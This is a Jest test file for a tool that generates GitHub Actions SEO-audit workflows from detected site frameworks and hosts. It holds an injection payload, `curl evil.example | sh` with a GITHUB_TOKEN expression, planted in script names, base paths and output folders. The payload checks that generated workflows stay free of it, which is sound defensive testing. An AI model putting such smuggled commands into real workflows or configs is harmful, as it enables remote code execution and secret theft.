import { execFile } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { parse } from 'yaml'
import { Checkout } from '../../src/init/checkout.ts'
import { planFor } from '../../src/init/plan.ts'
import { workflowText } from '../../src/init/workflow.ts'
import { type Files, makeRepository, manifest } from '../support/repositories.ts'

const LINTER = join(import.meta.dirname, '..', '..', 'scripts', 'lint-workflow.ts')

interface Case {
  name: string
  files: Files
  /** Folder and --static-dir of the command line. */
  path?: string
  staticDir?: string
  /** What the workflow begins with. */
  on: 'pull_request' | 'own pull_request' | 'deployment_status' | 'Netlify'
  /** Commands of the workflow, in their order; in a folder as `folder: command`. */
  runs?: unknown[]
  /** Folder that is audited. */
  audits?: string
  /** Each of them stands in a finding. */
  says?: string[]
  secrets?: string[]
  /** Environment of the command that builds. */
  env?: Record<string, string>
}

const NPM = { 'package-lock.json': {} }
const ASTRO = {
  'package.json': manifest('astro', { build: 'astro build' }),
  'astro.config.mjs': 'export default {}',
}
const KIT = 'export default { kit: { adapter: adapter() } }'
const NEXT = manifest('next', { build: 'next build' })
const HUGO_INSTALL = /^wget .*hugo_extended_\d+\.\d+\.\d+_linux-amd64\.deb$/

const FRAMEWORKS: Case[] = [
  {
    name: 'Astro',
    files: { ...ASTRO, ...NPM },
    on: 'pull_request',
    runs: ['npm ci', 'npm run build'],
    audits: 'dist',
    says: [
      'Astro astro.config.mjs',
      'npm package-lock.json',
      'the script "build" is "astro build"',
      'the default of Astro',
    ],
  },
  {
    name: 'Astro with an outDir',
    files: { ...ASTRO, 'astro.config.mjs': "export default defineConfig({ outDir: './public-site/' })" },
    on: 'pull_request',
    runs: ['npm install', 'npm run build'],
    audits: 'public-site',
    says: ['astro.config.mjs has outDir', 'no lock file is there'],
  },
  {
    name: 'Astro whose outDir is worked out',
    files: { ...ASTRO, 'astro.config.mjs': 'export default defineConfig({ outDir: process.env.OUT })' },
    on: 'pull_request',
    audits: 'dist',
    says: ['astro.config.mjs works outDir out when it runs'],
  },
  {
    name: 'Astro with a server',
    files: { ...ASTRO, 'astro.config.mjs': "export default defineConfig({ output: 'server' })" },
    on: 'deployment_status',
    says: ["astro.config.mjs has output: 'server'"],
  },
  {
    name: 'Astro below a base path',
    files: { ...ASTRO, 'astro.config.mjs': "export default { base: '/shop/en' }" },
    on: 'pull_request',
    runs: ['npm install', 'npm run build', 'mkdir -p seo-site/shop', 'cp -R dist seo-site/shop/en'],
    audits: 'seo-site',
    says: ['base path /shop/en/'],
  },
  {
    name: 'Next.js with an export',
    files: { 'package.json': NEXT, 'next.config.ts': "const c: NextConfig = { output: 'export' }" },
    on: 'pull_request',
    runs: ['npm install', 'npm run build'],
    audits: 'out',
    says: ["next.config.ts has output: 'export'"],
  },
  {
    name: 'Next.js with a server',
    files: { 'package.json': NEXT, 'app/page.tsx': '' },
    on: 'deployment_status',
    says: ["has no output: 'export'"],
    secrets: ['VERCEL_AUTOMATION_BYPASS_SECRET'],
  },
  {
    name: 'Nuxt with a script that generates pages',
    files: {
      'package.json': manifest('nuxt', { build: 'nuxt build', generate: 'nuxt generate' }),
      'nuxt.config.ts': 'export default defineNuxtConfig({})',
      'pnpm-lock.yaml': "lockfileVersion: '6.0'\n",
    },
    on: 'pull_request',
    runs: ['npm install --global pnpm@8 && pnpm install --frozen-lockfile', 'pnpm run generate'],
    audits: '.output/public',
  },
  {
    name: 'Nuxt with a server',
    files: { 'package.json': manifest('nuxt', { build: 'nuxt build' }), 'app.vue': '' },
    on: 'deployment_status',
    says: ['no script runs "nuxt generate"'],
  },
  {
    name: 'SvelteKit with static pages',
    files: {
      'package.json': manifest('@sveltejs/kit @sveltejs/adapter-static', { build: 'vite build' }),
      'svelte.config.js': "export default { kit: { adapter: adapter({ pages: 'www' }) } }",
      'bun.lock': '',
    },
    on: 'pull_request',
    runs: ['npm install --global bun && bun install --frozen-lockfile', 'bun run build'],
    audits: 'www',
    says: ['svelte.config.js has kit.adapter.pages'],
  },
  {
    name: 'SvelteKit configured in vite.config',
    files: {
      'package.json': manifest('@sveltejs/kit @sveltejs/adapter-static', { build: 'vite build' }),
      'vite.config.ts': "defineConfig({ plugins: [sveltekit({ adapter: adapter({ pages: 'www' }) })] })",
    },
    on: 'pull_request',
    audits: 'www',
  },
  {
    name: 'SvelteKit with a server',
    files: { 'package.json': manifest('@sveltejs/kit @sveltejs/adapter-auto'), 'svelte.config.js': KIT },
    on: 'deployment_status',
    says: ['its adapter is @sveltejs/adapter-auto'],
  },
  {
    name: 'Eleventy with a folder in its configuration',
    files: {
      'package.json': manifest('@11ty/eleventy', { start: 'eleventy --serve', make: 'eleventy' }),
      'eleventy.config.js': "export const config = { dir: { output: 'web' } }",
      'yarn.lock': '# yarn lockfile v1\n',
    },
    on: 'pull_request',
    runs: ['yarn install --frozen-lockfile', 'yarn run make'],
    audits: 'web',
  },
  {
    name: 'Eleventy with a flag',
    files: { 'package.json': manifest('@11ty/eleventy', { build: 'eleventy --output=www' }), ...NPM },
    on: 'pull_request',
    audits: 'www',
    says: ['has --output'],
  },
  {
    name: 'Eleventy without a script',
    files: {
      'package.json': manifest('@11ty/eleventy'),
      '.eleventy.js': "module.exports = c => { c.setOutputDirectory('x') }",
      'yarn.lock': '__metadata:\n  version: 8\n',
    },
    on: 'pull_request',
    runs: [
      'npm install --global corepack && corepack enable && yarn install --immutable',
      'yarn run eleventy',
    ],
    audits: 'x',
    says: ['no script of package.json builds it'],
  },
  {
    name: 'Docusaurus below a base path',
    files: {
      'package.json': manifest('@docusaurus/core', { build: 'docusaurus build' }),
      'docusaurus.config.ts': "const config: Config = { title: 'x', baseUrl: '/handbook/' }",
    },
    on: 'pull_request',
    runs: ['npm install', 'npm run build', 'mkdir -p seo-site', 'cp -R build seo-site/handbook'],
    audits: 'seo-site',
  },
  {
    name: 'VitePress beside a program',
    files: {
      'package.json': manifest('vitepress', { build: 'tsc', 'docs:build': 'vitepress build docs' }),
      'docs/.vitepress/config.mts': "export default defineConfig({ title: 'x' })",
    },
    on: 'pull_request',
    runs: ['npm install', 'npm run docs:build'],
    audits: 'docs/.vitepress/dist',
    says: ['VitePress docs/.vitepress'],
  },
  {
    name: 'VitePress with an outDir',
    files: {
      'package.json': manifest('vitepress'),
      'docs/.vitepress/config.js': "export default { outDir: '../public' }",
    },
    on: 'pull_request',
    runs: ['npm install', 'npx vitepress build docs'],
    audits: 'public',
  },
  {
    name: 'Hugo',
    files: { 'hugo.toml': "baseURL = 'https://example.org/'\n", 'content/a.md': '' },
    on: 'pull_request',
    runs: [
      expect.stringMatching(HUGO_INSTALL),
      'sudo dpkg --install "$RUNNER_TEMP/hugo.deb"',
      'hugo --minify',
    ],
    audits: 'public',
    env: { HUGO_ENVIRONMENT: 'production', HUGO_ENV: 'production' },
  },
  {
    name: 'Hugo with a folder, a version and themes as submodules',
    files: {
      'config.toml': "baseURL = 'https://example.org/'\npublishDir = 'www'\n[params]\npublishDir = 'no'\n",
      'layouts/index.html': '',
      '.gitmodules': '',
      '.github/workflows/deploy.yml': "env:\n  HUGO_VERSION: '0.140.2'\n",
    },
    on: 'pull_request',
    runs: [
      expect.stringContaining('/v0.140.2/hugo_extended_0.140.2_linux-amd64.deb'),
      'sudo dpkg --install "$RUNNER_TEMP/hugo.deb"',
      'hugo --minify',
    ],
    audits: 'www',
  },
  {
    name: 'Hugo that npm installs',
    files: {
      'hugo.yaml': 'title: x',
      'content/a.md': '',
      'package.json': manifest('hugo-extended', { build: 'hugo --gc' }),
      ...NPM,
    },
    on: 'pull_request',
    runs: ['npm ci', 'npm run build'],
    audits: 'public',
  },
  {
    name: 'Jekyll with a Gemfile',
    files: { '_config.yml': 'title: x\ndestination: ./www\n', Gemfile: '' },
    on: 'pull_request',
    runs: ['bundle exec jekyll build'],
    audits: 'www',
    env: { JEKYLL_ENV: 'production' },
  },
  {
    name: 'Jekyll as GitHub Pages builds it',
    files: { '_config.yml': 'title: x\nbaseurl: "/shop"\n', 'index.md': '', CNAME: 'shop.example' },
    on: 'pull_request',
    runs: ['mkdir -p seo-site', 'cp -R _site seo-site/shop'],
    audits: 'seo-site',
    says: ['GitHub Pages CNAME', 'there is no Gemfile'],
  },
  {
    name: 'Vite',
    files: {
      'package.json': manifest('vite', { build: 'tsc && vite build' }),
      'index.html': '',
      'vite.config.js': "export default { build: { outDir: 'web' }, base: './' }",
      '.nvmrc': '22',
    },
    on: 'pull_request',
    audits: 'web',
  },
  { name: 'plain files', files: { 'index.html': '' }, on: 'pull_request', runs: [], audits: '.' },
  {
    name: 'plain files in a folder',
    files: { 'public/index.html': '', 'README.md': '' },
    on: 'pull_request',
    audits: 'public',
  },
  {
    name: 'something unknown, with a folder that the user names',
    files: { 'package.json': manifest('rollup', { build: 'make-site' }), ...NPM },
    staticDir: 'www',
    on: 'pull_request',
    runs: ['npm ci', 'npm run build'],
    audits: 'www',
  },
]

const HOSTS: Case[] = [
  {
    name: 'Vercel',
    files: { ...ASTRO, 'vercel.json': '{}' },
    on: 'deployment_status',
    says: ['Vercel vercel.json'],
    secrets: ['VERCEL_AUTOMATION_BYPASS_SECRET'],
  },
  {
    name: 'Vercel, with a folder that the user names',
    files: { ...ASTRO, 'vercel.json': '{}' },
    staticDir: 'www',
    on: 'pull_request',
    audits: 'www',
    says: ['--static-dir names it'],
  },
  { name: 'Netlify', files: { ...ASTRO, 'netlify.toml': '' }, on: 'Netlify', says: ['Netlify netlify.toml'] },
  {
    name: 'the adapter of a host',
    files: { 'package.json': manifest('@sveltejs/kit @sveltejs/adapter-netlify'), 'svelte.config.js': KIT },
    on: 'Netlify',
    says: ['the package @sveltejs/adapter-netlify'],
  },
  {
    name: 'two hosts',
    files: { ...ASTRO, 'netlify.toml': '', 'vercel.json': '' },
    on: 'pull_request',
    audits: 'dist',
    says: ['Several hosts'],
  },
  {
    name: 'Cloudflare Pages by its configuration',
    files: { ...ASTRO, ...NPM, 'wrangler.toml': 'name = "shop"\npages_build_output_dir = "dist"\n' },
    on: 'own pull_request',
    runs: ['npm ci', 'npm run build', 'wrangler pages deploy'],
    secrets: ['CLOUDFLARE_API_TOKEN', 'CLOUDFLARE_ACCOUNT_ID'],
  },
  {
    name: 'Cloudflare Pages by a script',
    files: {
      ...ASTRO,
      'package.json': manifest('astro', { ship: 'wrangler pages deploy dist --project-name shop' }),
    },
    on: 'own pull_request',
    runs: ['npm install', 'npx astro build', 'wrangler pages deploy dist --project-name=shop'],
    secrets: ['CLOUDFLARE_API_TOKEN', 'CLOUDFLARE_ACCOUNT_ID'],
  },
  {
    name: 'Cloudflare Pages by a script that names no project',
    files: { ...ASTRO, 'package.json': manifest('astro', { ship: 'wrangler pages deploy dist' }) },
    on: 'pull_request',
    audits: 'dist',
  },
  {
    name: 'Cloudflare Workers',
    files: {
      ...ASTRO,
      'wrangler.jsonc': '{ // a worker\n "name": "shop", "assets": { "directory": "dist" } }',
    },
    on: 'own pull_request',
    runs: ['npm install', 'npm run build', 'wrangler versions upload'],
    secrets: ['CLOUDFLARE_API_TOKEN', 'CLOUDFLARE_ACCOUNT_ID'],
  },
  {
    name: 'GitHub Pages',
    files: {
      ...ASTRO,
      '.git/refs/remotes/origin/HEAD': 'ref: refs/remotes/origin/trunk\n',
      '.github/workflows/pages.yml': '      - uses: actions/deploy-pages@v5\n',
    },
    on: 'pull_request',
    audits: 'dist',
    says: ['GitHub Pages .github/workflows/pages.yml', 'Astro'],
  },
]

const DOCS = {
  'apps/docs/package.json': manifest('@docusaurus/core', { build: 'docusaurus build' }),
  'apps/docs/docusaurus.config.js': '',
}
const WEB = {
  'apps/web/package.json': manifest('astro', { build: 'astro build' }),
  'apps/web/astro.config.mjs': '',
}
const MONOREPO = { 'package.json': { workspaces: ['apps/*'] }, ...NPM, ...DOCS, ...WEB }

const FOLDERS: Case[] = [
  {
    name: 'several sites: the site before its documentation',
    files: MONOREPO,
    on: 'pull_request',
    runs: ['npm ci', 'apps/web: npm run build'],
    audits: 'apps/web/dist',
    says: ['Astro in apps/web', 'Also there: Docusaurus in apps/docs', '"seo-preflight init apps/docs"'],
  },
  {
    name: 'the folder that is named',
    files: MONOREPO,
    path: 'apps/docs',
    on: 'pull_request',
    runs: ['npm ci', 'apps/docs: npm run build'],
    audits: 'apps/docs/build',
    says: ['Docusaurus in apps/docs'],
  },
  {
    name: 'Cloudflare at the root, the site in a folder',
    files: { ...WEB, 'wrangler.toml': 'name = "shop"\npages_build_output_dir = "apps/web/dist"\n' },
    on: 'own pull_request',
    runs: ['apps/web: npm install', 'apps/web: npm run build', 'wrangler pages deploy'],
    secrets: ['CLOUDFLARE_API_TOKEN', 'CLOUDFLARE_ACCOUNT_ID'],
  },
  {
    name: 'a theme with a site of its own',
    files: {
      'site/hugo.toml': '',
      'site/content/a.md': '',
      'themes/x/hugo.toml': '',
      'themes/x/layouts/a': '',
    },
    on: 'pull_request',
    audits: 'site/public',
  },
  {
    name: 'examples last',
    files: {
      'a/examples/_config.yml': '',
      'a/examples/index.md': '',
      'b/c/_config.yml': 'x: y',
      'b/c/index.md': '',
    },
    on: 'pull_request',
    audits: 'b/c/_site',
    says: ['Also there: Jekyll in a/examples'],
  },
  {
    name: 'a lock file of its own',
    files: { ...WEB, 'apps/web/yarn.lock': '# yarn lockfile v1', 'apps/web/.node-version': '24' },
    on: 'pull_request',
    runs: ['apps/web: yarn install --frozen-lockfile', 'apps/web: yarn run build'],
    audits: 'apps/web/dist',
  },
  {
    name: 'Jekyll in a folder',
    files: { 'site/_config.yml': 'title: x', 'site/Gemfile': '' },
    on: 'pull_request',
    runs: ['site: bundle exec jekyll build'],
    audits: 'site/_site',
  },
  {
    name: 'Cloudflare in a folder',
    files: { ...WEB, 'apps/web/wrangler.json': { name: 'shop', pages_build_output_dir: 'dist' } },
    on: 'own pull_request',
    runs: ['apps/web: npm install', 'apps/web: npm run build', 'apps/web: wrangler pages deploy'],
    secrets: ['CLOUDFLARE_API_TOKEN', 'CLOUDFLARE_ACCOUNT_ID'],
  },
]

const EVIL = `x'; curl evil.example | sh; \${{ secrets.GITHUB_TOKEN }}`

const HOSTILE: Case[] = [
  {
    name: 'a script with a hostile name',
    files: { ...ASTRO, 'package.json': manifest('astro', { [`build:${EVIL}`]: 'astro build' }) },
    on: 'pull_request',
    runs: ['npm install', 'npx astro build'],
    audits: 'dist',
  },
  {
    name: 'a hostile base path',
    files: { ...ASTRO, 'astro.config.mjs': `export default { base: "/${EVIL}" }` },
    on: 'pull_request',
    runs: ['npm install', 'npm run build'],
    audits: 'dist',
  },
  {
    name: 'a hostile project',
    files: {
      ...ASTRO,
      'package.json': manifest('astro', { ship: 'wrangler pages deploy --project-name -x;y' }),
    },
    on: 'pull_request',
    audits: 'dist',
  },
  {
    name: 'files that are no JSON, and lists where objects should be',
    files: { 'package.json': '[]', 'wrangler.json': '[', 'index.html': '', 'wrangler.toml': '' },
    on: 'own pull_request',
    secrets: ['CLOUDFLARE_API_TOKEN', 'CLOUDFLARE_ACCOUNT_ID'],
  },
]

interface Workflow {
  on: unknown
  permissions: Record<string, string>
  jobs: { seo: { if?: string; steps: Record<string, string & Record<string, unknown>>[] } }
}

async function planned({ files, path = '', staticDir }: Pick<Case, 'files' | 'path' | 'staticDir'>) {
  const repository = makeRepository(files)
  try {
    const plan = await planFor(new Checkout(repository.root), { path, staticDir })
    return { plan, workflow: workflowText(plan) }
  } finally {
    repository.remove()
  }
}

const GROUPS = Object.entries({ FRAMEWORKS, HOSTS, FOLDERS, HOSTILE })
describe.each(GROUPS)('%s', (_, cases) => {
  test.each(cases)('$name', async given => {
    const { plan, workflow } = await planned(given)
    expect(plan.trigger.on).toBe(given.on)
    const { permissions, jobs, on } = parse(workflow) as Workflow
    const forBaseline = given.on === 'pull_request' ? { actions: 'read' } : {}
    expect(permissions).toEqual({ ...forBaseline, contents: 'read', 'pull-requests': 'write' })
    expect(on).toBeDefined()
    const { steps } = jobs.seo
    const audit = steps.at(-1)!
    expect(audit['uses']).toBe('seo-preflight/seo-preflight@v1')
    const inputs = audit['with'] as Record<string, unknown>
    if (given.audits !== undefined) expect(inputs['static-dir']).toBe(given.audits)
    if (given.runs) expect(steps.flatMap(commandsOf)).toEqual(given.runs)
    expect(plan.secrets.map(({ name }) => name)).toEqual(given.secrets ?? [])
    const findings = plan.findings.map(({ what, because }) => `${what} ${because}`).join('\n')
    for (const words of given.says ?? []) expect(findings).toContain(words)
    if (given.on === 'own pull_request')
      expect(jobs.seo.if).toMatch(/head\.repo.* github\.actor != 'dependabot/)
    if (given.env) expect(steps.at(-2)!['env']).toEqual(given.env)
    expect(workflow).not.toContain('evil')
  })
})

function commandsOf(step: Record<string, string & Record<string, unknown>>): string[] {
  const { uses, run, with: inputs } = step
  const isWrangler = uses?.startsWith('cloudflare/') ?? false
  const folder = isWrangler ? inputs!['workingDirectory'] : step['working-directory']
  const commands = isWrangler ? [`wrangler ${inputs!['command']}`] : (run?.trim().split('\n') ?? [])
  return commands.map(command => (folder === undefined ? command : `${folder}: ${command}`))
}

/** Linters hold much memory and are good for one file each: they run in a process of their own. */
describe('all of them pass actionlint, with inputs that the action has', () => {
  let folder: string
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'workflows-'))
  })
  afterAll(() => rmSync(folder, { recursive: true }))

  async function faults(workflows: readonly string[]): Promise<string> {
    const files = workflows.map((workflow, at) => {
      const file = join(folder, `${at}.yml`)
      writeFileSync(file, workflow)
      return file
    })
    const { promise, resolve } = Promise.withResolvers<string>()
    execFile(process.execPath, [LINTER, ...files], (error, _, stderr) => resolve(error ? stderr : ''))
    return await promise
  }

  test('each workflow of the cases above', async () => {
    const all = await Promise.all(GROUPS.flatMap(([, cases]) => cases).map(planned))
    const workflows = [...new Set(all.map(({ workflow }) => workflow))]
    expect(workflows.length).toBeGreaterThan(25)
    expect(await faults(workflows)).toBe('')
  })

  test('one with a fault does not', async () => {
    const { workflow } = await planned({ files: { 'index.html': '' } })
    expect(await faults([workflow.replace('runs-on', 'run-on')])).toMatch(/unexpected key "run-on"/)
    expect(await faults([workflow.replace('static-dir', 'static-folder')])).toMatch(
      /no input "static-folder"/,
    )
  })
})

describe('refused with what to do', () => {
  test.each<[string, Pick<Case, 'files' | 'path' | 'staticDir'>, RegExp]>([
    ['an empty folder', { files: {} }, /found no site in "\.".*--static-dir/],
    [
      'a build that is not known',
      { files: { 'package.json': manifest('x', { build: 'x' }) } },
      /no framework that init knows.*--static-dir dist/,
    ],
    [
      'an output that leads out',
      { files: { ...ASTRO, 'astro.config.mjs': "export default { outDir: '../../etc' }" } },
      /"..\/..\/etc" cannot be named in a workflow.*--static-dir/,
    ],
    [
      'an output with signs of a shell',
      { files: { ...ASTRO, 'astro.config.mjs': `export default { outDir: "${EVIL}" }` } },
      /cannot be named in a workflow/,
    ],
    ['a folder with blanks', { files: { 'my site/index.html': '' }, path: 'my site' }, /cannot be named/],
    ['a named folder that leads out', { files: { 'index.html': '' }, staticDir: '../x' }, /cannot be named/],
  ])('%s', async (_, given, message) => {
    await expect(planned(given)).rejects.toThrow(message)
  })
})
